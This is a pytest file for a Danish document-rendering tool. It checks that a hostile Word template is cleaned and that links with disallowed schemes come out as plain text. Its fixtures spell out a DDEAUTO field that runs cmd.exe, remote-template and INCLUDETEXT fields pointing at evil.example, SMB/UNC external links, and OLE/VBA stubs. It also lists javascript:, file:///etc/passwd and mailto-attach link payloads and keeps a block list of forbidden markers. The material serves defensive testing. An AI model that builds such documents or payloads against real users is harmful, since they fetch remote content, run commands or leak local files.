"""Issue 25, second attack: a hostile Word template (--word-skabelon) and links with
schemes that are not http, https or mailto.

A template may give styles, fonts, page setup and plain header/footer text (and PAGE and
NUMPAGES fields); everything active in it (remote templates, fields that fetch or run
something, external relationships, OLE, macros, custom properties) is dropped, and
samtale says so. A link with another scheme is text, in HTML and in Word.
"""

from __future__ import annotations

import io
import re
import warnings
import zipfile
from pathlib import Path

import docx
import pytest
from docx.shared import RGBColor

import conftest
from conftest import EXAMPLES, samtale
from samtale_cli.out import markdown
from samtale_cli.out.docx.builder import Builder

MEETING = EXAMPLES / conftest.MEETING
PLAN = EXAMPLES / conftest.PLAN
CPR = "010203-1234"
MACRO_CT = True  # a macro document (.docm) as template: made a plain one
HEADER_TEXT = "Kommunens Børn og Unge"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
FIELDS = (
    '<w:p><w:fldSimple w:instr=\' INCLUDETEXT "\\\\\\\\evil.example\\\\share\\\\x.docx" \'>'
    '<w:r><w:t>inkluderet</w:t></w:r></w:fldSimple></w:p>'
    '<w:p><w:fldSimple w:instr=\'INCLUDEPICTURE "http://evil.example/p.png" \\d\'><w:r><w:t>billede</w:t></w:r>'
    '</w:fldSimple></w:p>'
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows'
    '\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>dde</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE </w:instrText></w:r>'
    '<w:r><w:instrText>cmd "/c x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
ACTIVE = (
    '<w:p><w:hyperlink r:id="rIdSmb"><w:r><w:t>klik</w:t></w:r></w:hyperlink></w:p>'
    '<w:p><w:r><w:object><v:shape id="o1"><v:imagedata r:id="rIdExtImg"/></v:shape>'
    '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="o1" r:id="rIdOle"/></w:object></w:r></w:p>'
    '<w:altChunk r:id="rIdChunk"/>'
)
EXTERNAL = (
    f'<Relationship Id="rIdSmb" Type="{RT}hyperlink" Target="smb://evil.example/share" TargetMode="External"/>'
    f'<Relationship Id="rIdExtImg" Type="{RT}image" Target="\\\\evil.example\\img.png" TargetMode="External"/>'
    f'<Relationship Id="rIdOle" Type="{RT}oleObject" Target="embeddings/oleObject1.bin"/>'
    f'<Relationship Id="rIdChunk" Type="{RT}aFChunk" Target="http://evil.example/chunk.html" '
    'TargetMode="External"/>'
)


def _edit(parts: dict[str, bytes], name: str, old: str, new: str) -> None:
    text = parts[name].decode("utf-8")
    assert old in text, (name, old)
    parts[name] = text.replace(old, new, 1).encode("utf-8")


def _rels(parts: dict[str, bytes], name: str, extra: str) -> None:
    if name not in parts:
        parts[name] = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
                       '"http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>').encode()
    _edit(parts, name, "</Relationships>", extra + "</Relationships>")


def hostile_template(path: Path) -> Path:
    """A template with every active thing of the review, built with python-docx and
    edited as a zip."""
    d = docx.Document()
    d.styles["Heading 1"].font.color.rgb = RGBColor.from_string("C00000")
    section = d.sections[0]
    section.header.paragraphs[0].text = HEADER_TEXT
    section.footer.paragraphs[0].text = "Rådhuset"
    d.add_paragraph("krop")
    raw = io.BytesIO()
    d.save(raw)
    with zipfile.ZipFile(io.BytesIO(raw.getvalue())) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    header = next(n for n in parts if re.fullmatch(r"word/header\d*\.xml", n))
    footer = next(n for n in parts if re.fullmatch(r"word/footer\d*\.xml", n))
    for name in (header, footer):
        closing = "</w:hdr>" if "header" in name else "</w:ftr>"
        _edit(parts, name, closing, FIELDS + ACTIVE + closing)
        _rels(parts, name.replace("word/", "word/_rels/") + ".rels", EXTERNAL)
    _edit(parts, "word/document.xml", "<w:body>", "<w:body>" + FIELDS + ACTIVE)
    _rels(parts, "word/_rels/document.xml.rels", EXTERNAL
          + '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
          'Target="vbaProject.bin"/>')
    _edit(parts, "word/settings.xml", "<w:zoom ",
          '<w:attachedTemplate r:id="rIdTpl"/><w:linkStyles/><w:docVars><w:docVar w:name="cpr" '
          f'w:val="{CPR}"/></w:docVars><w:zoom ')
    _edit(parts, "word/settings.xml", "</w:settings>", '<w:updateFields w:val="true"/></w:settings>')
    _rels(parts, "word/_rels/settings.xml.rels",
          f'<Relationship Id="rIdTpl" Type="{RT}attachedTemplate" Target="http://evil.example/t.dotm" '
          'TargetMode="External"/>')
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 vba"
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 ole"
    parts["docProps/custom.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://schemas.openxml'
        'formats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/'
        'officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" '
        f'name="Barn"><vt:lpwstr>{CPR}</vt:lpwstr></property></Properties>').encode()
    _rels(parts, "_rels/.rels", f'<Relationship Id="rIdCustom" Type="{RT}custom-properties" '
          'Target="docProps/custom.xml"/>')
    ct = "[Content_Types].xml"
    if MACRO_CT:
        _edit(parts, ct, "wordprocessingml.document.main+xml", "XX")
        _edit(parts, ct, "application/vnd.openxmlformats-officedocument.XX",
              "application/vnd.ms-word.document.macroEnabled.main+xml")
    _edit(parts, ct, "</Types>",
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
          '<Override PartName="/word/embeddings/oleObject1.bin" '
          'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
          '<Override PartName="/docProps/custom.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/></Types>')
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


FORBIDDEN = ('TargetMode="External"', "attachedTemplate", "updateFields", "INCLUDETEXT", "INCLUDEPICTURE",
             "DDEAUTO", "vbaProject", "macroEnabled", "oleObject", "OLEObject", "w:object", "altChunk", "aFChunk",
             "docVar", "linkStyles", "custom-properties", CPR, "evil.example", "smb:")


def _assert_clean(raw: bytes, allow_update_fields: bool = False) -> None:
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        names = z.namelist()
        assert not [n for n in names if "vba" in n.lower() or "embeddings" in n or n == "docProps/custom.xml"
                    or n.startswith("customXml/")], names
        for name in names:
            text = z.read(name).decode("utf-8", "replace")
            for bad in FORBIDDEN:
                if bad == "updateFields" and allow_update_fields:
                    continue
                assert bad not in text, (name, bad)
            assert not re.search(r"\bDDE\b", text), name  # not the colour B6DDE8


def test_hostile_template_is_cleaned_in_every_document(tmp_path: Path) -> None:
    template = hostile_template(tmp_path / "skabelon.docx")
    outputs = []
    for source, document in ((MEETING, "referat"), (MEETING, "opmærksomhedspunkter"), (PLAN, "indsatsplan")):
        out = tmp_path / f"{document}.docx"
        result = samtale("render", source, "--dokument", document, "--word-skabelon", template, "-o", out)
        assert result.code == 0, result.stderr
        outputs.append(out)
        _assert_clean(out.read_bytes())
    # samtale says what it dropped, naming the template
    for word in ("fjernet", "skabelon.docx", "makroer", "felter", "eksterne", "OLE", "egenskaber"):
        assert word in result.stderr, (word, result.stderr)
    d = docx.Document(str(outputs[0]))
    assert str(d.styles["Heading 1"].font.color.rgb) == "C00000"  # the template's style survives
    header = "\n".join(p.text for p in d.sections[0].header.paragraphs)
    assert HEADER_TEXT in header
    footer = d.sections[0].footer._element.xml
    assert "Rådhuset" in footer and "PAGE" in footer


def test_cleaned_template_is_valid_ooxml(tmp_path: Path) -> None:
    """What is left of the hostile template still opens in Word without a repair."""
    validator = pytest.importorskip("openxml_audit").OpenXmlValidator()
    template = hostile_template(tmp_path / "skabelon.docx")
    out = tmp_path / "plan.docx"
    assert samtale("render", PLAN, "--word-skabelon", template, "-o", out).code == 0
    result = validator.validate(str(out))
    assert result.is_valid, [str(e) for e in result.errors[:5]]


def test_a_plain_template_gives_no_message(tmp_path: Path) -> None:
    """A template with nothing active (python-docx's own, with an empty custom XML
    part) is used without a word."""
    d = docx.Document()
    d.sections[0].header.paragraphs[0].text = HEADER_TEXT
    d.save(str(tmp_path / "ren.docx"))
    result = samtale("render", PLAN, "--word-skabelon", tmp_path / "ren.docx", "-o", tmp_path / "p.docx")
    assert result.code == 0 and "fjernet" not in result.stderr, result.stderr


def test_hostile_template_is_cleaned_in_a_bundle_of_the_examples(tmp_path: Path) -> None:
    template = hostile_template(tmp_path / "skabelon.docx")
    out = tmp_path / "alle.docx"
    result = samtale("render", EXAMPLES / "afdelinger", "--word-skabelon", template, "-o", out)
    assert result.code == 0, result.stderr
    _assert_clean(out.read_bytes(), allow_update_fields=True)  # a bundle's own: its table of contents


def test_hostile_template_is_cleaned_without_the_cli() -> None:
    """The library path (Renderer, serve) gets the same cleaning as the command line."""
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        raw = hostile_template(Path(folder) / "t.docx").read_bytes()
    b = Builder(raw)
    b.start()
    b.heading("Overskrift", 1)
    _assert_clean(b.save("t", None, "x", None))


# --------------------------------------------------------------------- links

BAD_LINKS = ["smb://evil.example/share", "SMB://evil.example/share", "ms-word:ofe|u|http://evil.example/x.docx",
             "file:///etc/passwd", " javascript:alert(1)", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
             "data:text/html,<b>x</b>", "vbscript:msgbox(1)", "&#106;avascript:alert(1)",
             "%6Aavascript:alert(1)", "<java\tscript:alert(1)>", "<smb://evil.example/s>",
             "\\\\evil.example\\share", "//evil.example/x", "ftp://evil.example/x",
             "mailto:x@example.org?attach=c:/x", "mailto:x@example.org?subject=a&ATTACH=/etc/passwd"]


def _md(target: str) -> str:
    return f"Se [her]({target}) og <{target.strip(' <>')}> og ![logo]({target})" if not target.startswith("<") \
        else f"Se {target}"


@pytest.mark.parametrize("target", BAD_LINKS)
def test_disallowed_link_is_text_in_html(target: str) -> None:
    html = str(markdown.to_html(_md(target)))
    assert "<a " not in html and "href" not in html, html


@pytest.mark.parametrize("target", BAD_LINKS)
def test_disallowed_link_is_text_in_word(target: str) -> None:
    b = Builder()
    b.start()
    b.markdown(None, _md(target))
    raw = b.save("t", None, "x", None)
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        rels = z.read("word/_rels/document.xml.rels").decode()
        body = z.read("word/document.xml").decode()
    assert "hyperlink" not in rels and "<w:hyperlink" not in body, rels
    assert "her" in body or "evil" in body or "alert" in body  # the text stays


@pytest.mark.parametrize("target", ["https://example.dk/a", "http://example.dk", "mailto:a@example.dk",
                                    "HTTPS://example.dk/b"])
def test_allowed_link_stays_a_link(target: str) -> None:
    assert 'href="' in str(markdown.to_html(f"Se [her]({target})"))
    b = Builder()
    b.start()
    b.markdown(None, f"Se [her]({target})")
    with zipfile.ZipFile(io.BytesIO(b.save("t", None, "x", None))) as z:
        assert "hyperlink" in z.read("word/_rels/document.xml.rels").decode()


def _variant(tmp_path: Path, change: str) -> Path:
    """A broken copy of the hostile template: it must give a Danish usage error."""
    source = hostile_template(tmp_path / "ond.docx")
    with zipfile.ZipFile(source) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    if change == "no root rels":
        del parts["_rels/.rels"]
    elif change == "bad header xml":
        name = next(n for n in parts if re.fullmatch(r"word/header\d*\.xml", n))
        parts[name] = parts[name][:-20]
    elif change == "external main":
        _edit(parts, "_rels/.rels", 'Target="word/document.xml"',
              'Target="http://evil.example/d.xml" TargetMode="External"')
    elif change == "header is the content types":
        _edit(parts, "word/_rels/document.xml.rels", 'Target="header1.xml"', 'Target="../[Content_Types].xml"')
    path = tmp_path / "skabelon.docx"
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


@pytest.mark.parametrize("change", ["no root rels", "bad header xml", "external main",
                                    "header is the content types"])
def test_broken_template_is_a_danish_usage_error(tmp_path: Path, change: str) -> None:
    template = _variant(tmp_path, change)
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # zipfile's "Duplicate name" included
        result = samtale("render", PLAN, "--word-skabelon", template, "-o", tmp_path / "p.docx")
    assert result.code in (0, 2), result.stderr
    if result.code == 2:
        assert "Word-skabelonen" in result.stderr and "skabelon.docx" in result.stderr
    else:
        _assert_clean((tmp_path / "p.docx").read_bytes())
